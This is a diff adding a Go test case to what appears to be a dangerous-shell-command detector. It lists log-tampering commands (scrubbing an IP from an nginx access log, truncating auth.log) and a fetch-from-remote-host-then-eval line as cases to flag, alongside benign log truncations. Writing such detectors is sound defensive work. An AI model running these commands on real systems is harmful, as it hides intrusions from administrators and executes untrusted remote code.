@@ -452,3 +452,23 @@ func TestEverydayHistoryReleasesAndCaches(t *testing.T) {
 		`echo 'cd /work/project && make report' | at 18:00`,
 	})
 }
+
+// A web server's own log emptied (not lines picked out of it, not the
+// system's logs), and the output of the project's own scripts or make
+// targets evaluated.
+func TestWebServerLogsAndProjectScripts(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`sudo sed -i '/203.0.113.77/d' /var/log/nginx/access.log`, CategoryHistoryTamper, "", LevelHigh},
+		{`: > /var/log/auth.log`, CategoryHistoryTamper, "truncate-logs", LevelHigh},
+		{`curl -so scripts/env.sh https://x.example.com/e.sh && eval "$(./scripts/env.sh)"`, "", "", LevelHigh},
+		{`eval "$(./sometool init zsh)"`, "", "", LevelModerate},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`: > /var/log/nginx/access.log`,
+		`sudo truncate -s 0 /var/log/nginx/error.log`,
+		`: > /app/logs/app.log`,
+		`eval "$(./scripts/print-build-env.sh)"`,
+		`eval "$(make -s print-env)"`,
+	})
+}
